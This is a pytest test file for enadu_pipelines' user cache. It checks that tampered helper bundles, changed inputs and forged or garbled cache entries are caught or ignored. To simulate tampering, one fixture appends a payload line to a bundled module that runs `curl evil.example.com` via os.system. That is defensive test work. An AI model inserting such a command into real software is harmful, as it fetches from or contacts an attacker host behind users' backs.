"""What ``render`` keeps in the user's cache directory (enadu_pipelines/usercache.py): the helper bundle's
verification and the compiled templates. A warm cache must never hide a tampered bundle or a changed
input, and a garbled, missing or unwritable cache must only cost time, never change a result."""

from __future__ import annotations

import functools
import hashlib
import io
import os
import subprocess
import sys
import zipfile
from pathlib import Path

import jinja2
import pytest
from conftest import REPO

from enadu_pipelines import bundle, render as render_module
from enadu_pipelines.cli import main

ENTRY = "enadu_pipelines/helper/notify.py"


@pytest.fixture
def cache(tmp_path: Path, monkeypatch) -> Path:
    """An empty user cache directory but for the pinned wheels (linked, so nothing is downloaded),
    the helper sources frozen as they are now (edits elsewhere must not race the test), and no
    verification remembered by this process."""
    wheels = bundle.cache_dir()
    bundle.download(bundle.read_lock(), wheels)
    home = tmp_path / "xdg"
    (home / "enadu-pipelines").mkdir(parents=True)
    (home / "enadu-pipelines" / "wheels").symlink_to(wheels)
    monkeypatch.setenv("XDG_CACHE_HOME", str(home))
    sources = bundle.helper_sources()
    monkeypatch.setattr(bundle, "helper_sources", lambda: dict(sources))
    monkeypatch.setattr(bundle, "_verified", {})
    return home / "enadu-pipelines"


def new_process(monkeypatch) -> None:
    """Forget what this process remembered, as the next `enadu-pipelines` run starts without it."""
    monkeypatch.setattr(bundle, "_verified", {})
    bundle._expected.cache_clear()


def render(runner, out: Path, *args: str):
    return runner.invoke(main, ["render", "-q", "--config", str(REPO / "enadu.yaml"), "--out", str(out), *args])


def tampered(data: bytes) -> bytes:
    """``data`` with a payload appended to one module; everything else, the recorded fingerprint included, kept."""
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        entries = {info.filename: zf.read(info) for info in zf.infolist()}
    entries[ENTRY] += b"\nimport os; os.system('curl evil.example.com')\n"
    return bundle._zip(entries)


@functools.lru_cache(maxsize=1)
def built(sources: tuple) -> bytes:
    """The bundle built from these helper sources (deterministic: built once per sources, not per test)."""
    return bundle.build()


def rendered(tmp_path: Path, runner, monkeypatch) -> tuple[Path, bytes]:
    """A rendered directory whose bundle was verified (and the verification remembered) by an earlier run."""
    fresh = built(tuple(sorted(bundle.helper_sources().items())))
    target = tmp_path / "out" / "resources" / "enadu" / "enadu-helper.pyz"
    target.parent.mkdir(parents=True)
    target.write_bytes(fresh)
    result = render(runner, tmp_path / "out")
    assert result.exit_code == 0, result.output
    new_process(monkeypatch)
    return tmp_path / "out", fresh


def test_a_remembered_verification_is_used_for_the_same_bytes_and_inputs(tmp_path: Path, runner, monkeypatch,
                                                                          cache: Path) -> None:
    out, fresh = rendered(tmp_path, runner, monkeypatch)
    assert len(list((cache / "verified").iterdir())) == 1
    monkeypatch.setattr(bundle, "_expected", lambda *a: pytest.fail("rebuilt the bundle to verify it again"))
    result = render(runner, out, "--check")
    assert result.exit_code == 0, result.output
    assert bundle.remembered(fresh)


def test_a_tampered_bundle_is_caught_with_the_cache_warm(tmp_path: Path, runner, monkeypatch, cache: Path) -> None:
    out, fresh = rendered(tmp_path, runner, monkeypatch)
    bad = tampered(fresh)
    assert bundle.bundled_fingerprint(bad) == bundle.fingerprint()
    (out / "resources" / "enadu" / "enadu-helper.pyz").write_bytes(bad)
    step = out / "vars" / "enaduHelper.groovy"
    step.write_text(step.read_text().replace(hashlib.sha256(fresh).hexdigest(), hashlib.sha256(bad).hexdigest()))
    result = render(runner, out, "--check")
    assert result.exit_code == 1
    assert "     stale  resources/enadu/enadu-helper.pyz" in result.stdout.splitlines()
    assert f"entry {ENTRY} differs from its source" in result.stderr
    assert not bundle.remembered(bad)
    assert len(list((cache / "verified").iterdir())) == 1  # a failed verification is not remembered


def test_a_changed_input_is_caught_with_the_cache_warm(tmp_path: Path, runner, monkeypatch, cache: Path) -> None:
    out, fresh = rendered(tmp_path, runner, monkeypatch)
    sources = bundle.helper_sources()
    sources[ENTRY] += b"\n# edited\n"
    monkeypatch.setattr(bundle, "helper_sources", lambda: dict(sources))
    assert not bundle.remembered(fresh)
    result = render(runner, out, "--check")
    assert result.exit_code == 1
    assert "     stale  resources/enadu/enadu-helper.pyz" in result.stdout.splitlines()
    assert "helper bundle is missing or older than its inputs" in result.stderr


@pytest.mark.parametrize("damage", ["garbage", "truncated", "directory", "other archive"])
def test_a_garbled_verification_record_is_ignored(tmp_path: Path, runner, monkeypatch, cache: Path,
                                                  damage: str) -> None:
    out, fresh = rendered(tmp_path, runner, monkeypatch)
    [record] = (cache / "verified").iterdir()
    text = record.read_bytes()
    if damage == "garbage":
        record.write_bytes(os.urandom(len(text)))
    elif damage == "truncated":
        record.write_bytes(text[: len(text) // 2])
    elif damage == "directory":
        record.unlink()
        record.mkdir()
    else:  # a record copied from another archive's verification
        record.write_bytes(text.replace(hashlib.sha256(fresh).hexdigest().encode(), b"0" * 64))
    assert not bundle.remembered(fresh)
    # Still verified (in full), and with the tampered bundle still caught.
    result = render(runner, out, "--check")
    assert result.exit_code == 0, result.output
    new_process(monkeypatch)
    (out / "resources" / "enadu" / "enadu-helper.pyz").write_bytes(tampered(fresh))
    result = render(runner, out, "--check")
    assert result.exit_code == 1
    assert f"entry {ENTRY} differs from its source" in result.stderr


def test_an_unwritable_cache_only_costs_time(tmp_path: Path, runner, monkeypatch, cache: Path) -> None:
    out, fresh = rendered(tmp_path, runner, monkeypatch)
    for record in (cache / "verified").iterdir():
        record.unlink()
    (cache / "verified").rmdir()
    (cache / "verified").write_text("a file where the cache's directory belongs\n")
    result = render(runner, out, "--check")
    assert result.exit_code == 0, result.output
    assert not bundle._verdict_record(hashlib.sha256(fresh).hexdigest(), bundle.fingerprint())[0].exists()


# -- compiled templates ---------------------------------------------------------------------------


def template_env(loader: jinja2.BaseLoader) -> jinja2.Environment:
    return jinja2.Environment(loader=loader, undefined=jinja2.StrictUndefined,
                              bytecode_cache=render_module.TemplateCache("test"))


def test_compiled_templates_follow_their_source_and_survive_garbage(tmp_path: Path, monkeypatch) -> None:
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "xdg"))
    (tmp_path / "t").mkdir()
    source = tmp_path / "t" / "page.j2"
    source.write_text("hello {{ name }}\n")
    env = template_env(jinja2.FileSystemLoader(str(tmp_path / "t")))
    assert env.get_template("page.j2").render(name="a") == "hello a"
    [entry] = Path(env.bytecode_cache.directory).iterdir()
    # A new process with the cache warm: the same output; after an edit, the edited template.
    assert template_env(jinja2.FileSystemLoader(str(tmp_path / "t"))).get_template("page.j2").render(name="b") == "hello b"
    source.write_text("goodbye {{ name }}\n")
    assert template_env(jinja2.FileSystemLoader(str(tmp_path / "t"))).get_template("page.j2").render(name="c") == "goodbye c"
    good = entry.read_bytes()
    for garbled in (b"", good[:5], good[:20], good[: len(good) - 7], os.urandom(200), b"j2" + os.urandom(200)):
        entry.write_bytes(garbled)
        assert template_env(jinja2.FileSystemLoader(str(tmp_path / "t"))).get_template("page.j2").render(name="d") \
            == "goodbye d"


def test_compiled_templates_with_no_usable_cache_directory(tmp_path: Path, monkeypatch) -> None:
    (tmp_path / "xdg").write_text("a file where the cache directory belongs\n")
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "xdg"))
    env = template_env(jinja2.DictLoader({"page.j2": "hello {{ name }}"}))
    assert env.get_template("page.j2").render(name="a") == "hello a"


def test_rendered_files_are_the_same_with_a_cold_and_a_warm_cache(tmp_path: Path) -> None:
    """Whole processes, as a user runs them: the first render fills the cache, the second reads it."""
    wheels = bundle.cache_dir()
    home = tmp_path / "xdg"
    (home / "enadu-pipelines").mkdir(parents=True)
    (home / "enadu-pipelines" / "wheels").symlink_to(wheels)
    env = dict(os.environ, XDG_CACHE_HOME=str(home))
    helper = bundle.build()  # today's bundle (the committed one may lag the working tree's sources)
    trees = []
    for name in ("cold", "warm"):
        out = tmp_path / name
        (out / "resources" / "enadu").mkdir(parents=True)
        (out / "resources" / "enadu" / "enadu-helper.pyz").write_bytes(helper)
        result = subprocess.run([sys.executable, "-m", "enadu_pipelines.cli", "render", "-q", "--config",
                                 str(REPO / "enadu.yaml"), "--out", str(out)], env=env, capture_output=True,
                                text=True, timeout=600)
        assert result.returncode == 0, result.stderr
        trees.append({p.relative_to(out).as_posix(): p.read_bytes() for p in sorted(out.rglob("*")) if p.is_file()})
    # The first run filled the cache (compiled templates, the render itself); the second recalled it.
    assert list((home / "enadu-pipelines" / "templates").iterdir())
    assert len(list((home / "enadu-pipelines" / "renders").iterdir())) == 1
    assert trees[0] == trees[1]


# -- remembered renders ---------------------------------------------------------------------------


def snapshot(root: Path) -> dict[str, bytes]:
    return {p.relative_to(root).as_posix(): p.read_bytes() for p in sorted(root.rglob("*")) if p.is_file()}


def test_a_remembered_render_is_used_in_a_fresh_and_a_rendered_directory(tmp_path: Path, runner, monkeypatch,
                                                                          cache: Path) -> None:
    from enadu_pipelines import config

    out, fresh = rendered(tmp_path, runner, monkeypatch)
    assert len(list((cache / "renders").iterdir())) == 1
    expected = snapshot(out)
    monkeypatch.setattr(config, "load", lambda *a: pytest.fail("loaded the configuration again"))
    result = render(runner, out)
    assert result.exit_code == 0, result.output
    assert result.stdout == "" and snapshot(out) == expected  # -q: nothing changed
    other = tmp_path / "other"
    (other / "resources" / "enadu").mkdir(parents=True)
    (other / "resources" / "enadu" / "enadu-helper.pyz").write_bytes(fresh)
    result = render(runner, other)
    assert result.exit_code == 0, result.output
    assert snapshot(other) == expected
    # ...and --check still compares it with the disk: a hand edit is stale.
    path = other / "pipelines" / "backend" / "Jenkinsfile"
    path.write_text(path.read_text().replace("disableConcurrentBuilds()", "// nothing"))
    result = render(runner, other, "--check")
    assert result.exit_code == 1
    assert result.stdout.splitlines() == ["     stale  pipelines/backend/Jenkinsfile"]


def test_the_render_key_follows_every_input(tmp_path: Path, monkeypatch) -> None:
    import shutil

    from enadu_pipelines import memo

    package = tmp_path / "checkout" / "enadu_pipelines"
    shutil.copytree(memo.package_root(), package, ignore=shutil.ignore_patterns("__pycache__"))
    shutil.copytree(REPO / "templates", tmp_path / "checkout" / "templates")
    monkeypatch.setattr(memo, "package_root", lambda: package)
    config = tmp_path / "enadu.yaml"
    config.write_bytes((REPO / "enadu.yaml").read_bytes())
    base = memo.key(config, b"bundle")
    assert base is not None and memo.key(config, b"bundle") == base
    keys = {memo.key(config, b"other bundle")}
    (tmp_path / "copy.yaml").write_bytes(config.read_bytes())
    keys.add(memo.key(tmp_path / "copy.yaml", b"bundle"))  # the path it was given as (it is rendered)
    config.write_bytes(config.read_bytes() + b"\n# a comment\n")
    keys.add(memo.key(config, b"bundle"))
    config.write_bytes((REPO / "enadu.yaml").read_bytes())
    for path in (tmp_path / "checkout" / "templates" / "pipelines" / "Jenkinsfile.j2", package / "steps.py",
                 package / "helper.lock"):
        before = path.read_bytes()
        path.write_bytes(before + b"\n")
        keys.add(memo.key(config, b"bundle"))
        path.write_bytes(before)
    (package / "new_module.py").write_text("")
    keys.add(memo.key(config, b"bundle"))
    (package / "new_module.py").unlink()
    real_version = memo.importlib.metadata.version
    monkeypatch.setattr(memo.importlib.metadata, "version",
                        lambda name: "9.9.9" if name == "jinja2" else real_version(name))
    keys.add(memo.key(config, b"bundle"))
    monkeypatch.undo()
    assert len(keys) == 8 and base not in keys
    assert memo.key(tmp_path / "missing.yaml", b"bundle") is None


@pytest.mark.parametrize("damage", ["garbage", "truncated", "another key", "wrong types"])
def test_a_garbled_remembered_render_is_ignored(tmp_path: Path, runner, monkeypatch, cache: Path, damage: str) -> None:
    import marshal

    out, _ = rendered(tmp_path, runner, monkeypatch)
    expected = snapshot(out)
    [entry] = (cache / "renders").iterdir()
    data = entry.read_bytes()
    key, files, warnings = marshal.loads(data)
    files["pipelines/backend/Jenkinsfile"] = b"// Generated by enadu-pipelines, but not by this render\n"
    garbled = {"garbage": os.urandom(len(data)), "truncated": data[: len(data) // 2],
               "another key": marshal.dumps(("0" * 64, files, warnings)),
               "wrong types": marshal.dumps((key, {"pipelines/backend/Jenkinsfile": "text, not bytes"}, warnings))}
    entry.write_bytes(garbled[damage])
    result = render(runner, out, "--check")
    assert result.exit_code == 0, result.output
    assert snapshot(out) == expected


def test_no_cache_trusts_nothing_a_forged_cache_says(tmp_path: Path, runner, monkeypatch, cache: Path) -> None:
    """Whoever can write the cache can forge a remembered render (the README says so): a hand edit
    stored as the remembered render makes a cached `--check` pass. `--no-cache` (and ENADU_NO_CACHE)
    reads nothing remembered, so the same gate catches the edit; it also writes nothing there."""
    import marshal

    from enadu_pipelines import usercache

    out, _ = rendered(tmp_path, runner, monkeypatch)
    path = out / "pipelines" / "backend" / "Jenkinsfile"
    path.write_text(path.read_text().replace("disableConcurrentBuilds()", "// nothing"))
    [entry] = (cache / "renders").iterdir()
    key, files, warnings = marshal.loads(entry.read_bytes())
    files["pipelines/backend/Jenkinsfile"] = path.read_bytes()
    entry.write_bytes(marshal.dumps((key, files, warnings)))
    assert render(runner, out, "--check").exit_code == 0  # the forged entry is believed
    before = snapshot(cache)
    monkeypatch.setattr(usercache, "_disabled", False)
    result = render(runner, out, "--check", "--no-cache")
    assert result.exit_code == 1, result.output
    assert result.stdout.splitlines() == ["     stale  pipelines/backend/Jenkinsfile"]
    assert snapshot(cache) == before
    monkeypatch.setattr(usercache, "_disabled", False)
    new_process(monkeypatch)
    monkeypatch.setenv("ENADU_NO_CACHE", "1")
    assert render(runner, out, "--check").exit_code == 1


def test_the_render_key_follows_templates_behind_a_symlinked_directory(tmp_path: Path, monkeypatch) -> None:
    """Jinja2 reads templates through a symlinked directory, so the key must too (each real directory
    once: a link cycle ends), and the remembered renders are the user's only."""
    import shutil

    from enadu_pipelines import memo

    package = tmp_path / "checkout" / "enadu_pipelines"
    shutil.copytree(memo.package_root(), package, ignore=shutil.ignore_patterns("__pycache__"))
    shutil.copytree(REPO / "templates", tmp_path / "elsewhere")
    (tmp_path / "checkout" / "templates").mkdir()
    for part in (tmp_path / "elsewhere").iterdir():
        (tmp_path / "checkout" / "templates" / part.name).symlink_to(part, target_is_directory=part.is_dir())
    (tmp_path / "elsewhere" / "vars" / "loop").symlink_to(tmp_path / "elsewhere", target_is_directory=True)
    monkeypatch.setattr(memo, "package_root", lambda: package)
    config = tmp_path / "enadu.yaml"
    config.write_bytes((REPO / "enadu.yaml").read_bytes())
    base = memo.key(config, b"bundle")
    jenkinsfile = tmp_path / "elsewhere" / "pipelines" / "Jenkinsfile.j2"
    jenkinsfile.write_bytes(jenkinsfile.read_bytes() + b"\n")
    assert memo.key(config, b"bundle") not in (None, base)

    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "xdg"))
    memo.remember("0" * 64, {"a": b"b"}, [])
    assert (tmp_path / "xdg" / "enadu-pipelines" / "renders").stat().st_mode & 0o777 == 0o700
